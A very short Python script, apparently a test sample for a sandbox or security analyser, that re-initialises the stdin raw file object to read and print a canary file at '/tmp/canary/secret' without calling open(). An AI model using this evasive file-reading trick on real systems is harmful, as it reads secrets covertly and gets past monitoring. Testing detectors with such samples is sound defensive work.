# source: own
# effect: secret

import sys

raw = sys.stdin.buffer.raw
raw.__init__("/tmp/canary/secret")
print(raw.readall())
